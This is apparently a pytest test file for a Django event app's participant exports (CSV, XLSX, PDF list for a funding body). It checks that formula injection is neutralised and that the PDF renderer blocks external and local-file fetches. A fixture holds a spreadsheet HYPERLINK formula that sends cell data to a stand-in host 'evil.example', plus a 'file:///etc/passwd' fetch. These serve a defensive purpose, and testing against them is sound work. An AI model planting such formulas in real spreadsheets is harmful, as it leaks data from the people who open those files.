"""Participant exports: CSV and XLSX (formula injection neutralised, answers to the extra questions,
local times) and the PDF participant list for the funding body."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from kgp.events import exports, pdf, services
from kgp.events.models import Event, RegistrationStatus

from .conftest import make_event

pytestmark = pytest.mark.django_db
S = RegistrationStatus
QUESTIONS = [
    {"label": "Mittagessen", "kind": "choice", "choices": ["vegetarisch", "vegan"]},
    {"label": "Parkplatz", "kind": "yes_no"},
]
EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'


def pdf_text(content: bytes) -> str:
    return " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(content)).pages)


def add(event, actor, n: int, **overrides):
    data = {
        "email": f"person{n}@example.org", "first_name": "Person", "last_name": f"Nummer {n}",
        "company_name": f"Betrieb {n} GmbH", "function": "Technik",
    } | overrides  # fmt: skip
    return services.registration_create(event=event, actor=actor, **data)


@pytest.fixture
def event(consultant):
    return make_event(consultant, capacity=3, questions=QUESTIONS, starts_at=timezone.now() + dt.timedelta(hours=1),
                      ends_at=timezone.now() + dt.timedelta(hours=3))  # fmt: skip


@pytest.fixture
def people(event, consultant):
    evil = add(event, consultant, 1, first_name=EVIL, last_name="-1+2", company_name="@Betrieb", function="|cmd",
               answers={"q1": "vegan", "q2": "yes"})  # fmt: skip
    greta = add(event, consultant, 2, first_name="Greta", last_name="Hansen", company_name="Kesselbau Hansen KG")
    ole = add(event, consultant, 3, first_name="Ole", last_name="Berg", company_name="Gießerei Berg")
    waiting = add(event, consultant, 4, first_name="Wanda", last_name="Wartend")
    services.check_in(actor=consultant, registration=greta)
    return {"evil": evil, "greta": greta, "ole": ole, "waiting": waiting}


def test_csv_neutralises_formulas_and_has_the_answers(event, people):
    response = exports.csv_response(event, event.registrations.all())
    assert response["Content-Type"].startswith("text/csv") and event.slug in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header[-2:] == ["Mittagessen", "Parkplatz"] and len(header) == 12
    by_last = {row[2]: row for row in body}
    evil = by_last["'-1+2"]
    assert evil[1] == "'" + EVIL and evil[3] == "'@Betrieb" and evil[4] == "'|cmd"
    assert evil[-2] == "vegan" and evil[-1] in ("yes", "ja")
    # No cell of the file starts with a formula character.
    assert not any(cell[:1] in "=+-@|\t\r" and cell for row in body for cell in row[1:])
    people["greta"].refresh_from_db()
    assert by_last["Hansen"][8] == timezone.localtime(people["greta"].checked_in_at).strftime("%d.%m.%Y %H:%M")
    assert len(body) == 4  # the waiting list is part of the export (with its status)


def test_xlsx_reads_back_with_text_cells_and_local_times(event, people):
    response = exports.xlsx_response(event, event.registrations.exclude(status=S.WAITLISTED))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][-2:] == ("Mittagessen", "Parkplatz") and len(rows) == 4
    evil_row = next(r for r in rows[1:] if r[2] == "'-1+2")
    assert evil_row[1] == "'" + EVIL
    for cells in sheet.iter_rows(min_row=2):
        for cell in cells:
            assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@"), cell.value
            assert cell.data_type != "f"
    greta_row = next(r for r in rows[1:] if r[2] == "Hansen")
    people["greta"].refresh_from_db()
    expected = timezone.localtime(people["greta"].checked_in_at).replace(tzinfo=None, second=0, microsecond=0)
    assert greta_row[8].replace(second=0, microsecond=0) == expected


def test_pdf_participant_list(settings, event, people, consultant):
    settings.EVENT_FUNDING_NOTICE = "Gefördert aus Mitteln des EFRE und des Landes NRW (Testhinweis)."
    Event.objects.filter(pk=event.pk).update(title="Praxisabend Druckluft und Abwärme")
    event.refresh_from_db()
    content = pdf.render_participant_list(event)
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    people["greta"].refresh_from_db()
    at = timezone.localtime(people["greta"].checked_in_at)
    for expected in (
        "Teilnahmeliste", "Praxisabend Druckluft und Abwärme", "Technologiezentrum", "Greta Hansen",
        "Kesselbau Hansen KG", "Ole Berg", "Gießerei Berg", f"digital eingecheckt {at:%H:%M} Uhr", "Unterschrift",
        "Gefördert aus Mitteln des EFRE und des Landes NRW (Testhinweis).", "Seite 1 von 1", "Veranstalter",
        timezone.localtime(event.starts_at).strftime("%d.%m.%Y"),
    ):  # fmt: skip
        assert expected in text, expected
    assert "Wanda" not in text  # the waiting list is not on the list for the funding body
    assert "HYPERLINK" in text  # in a PDF a formula is only text


def test_pdf_leaves_out_no_shows_and_has_page_numbers_on_every_page(settings, consultant):
    settings.EVENT_FUNDING_NOTICE = "Förderhinweis für die Prüfung"
    event = make_event(consultant, capacity=60, starts_at=timezone.now() + dt.timedelta(hours=1),
                       ends_at=timezone.now() + dt.timedelta(hours=2))  # fmt: skip
    for n in range(45):
        add(event, consultant, n)
    absent = event.registrations.order_by("id").first()
    Event.objects.filter(pk=event.pk).update(starts_at=timezone.now() - dt.timedelta(hours=3), ends_at=timezone.now() - dt.timedelta(hours=1))
    event.refresh_from_db()
    for registration in event.registrations.exclude(pk=absent.pk):
        services.check_in(actor=consultant, registration=registration)
    assert services.mark_no_shows(actor=consultant, event=event) == 1
    reader = PdfReader(io.BytesIO(pdf.render_participant_list(event)))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    assert len(pages) >= 2
    for number, page in enumerate(pages, start=1):
        assert f"Seite {number} von {len(pages)}" in page and "Förderhinweis für die Prüfung" in page
    text = " ".join(pages)
    assert "44 angemeldet, davon 44 digital eingecheckt" in text
    assert absent.company_name not in text


def test_pdf_rendering_refuses_external_resources():
    fetcher = pdf._fetcher()
    for address in ("https://example.org/logo.png", "file:///etc/passwd"):
        with pytest.raises(ValueError):
            fetcher.fetch(address)
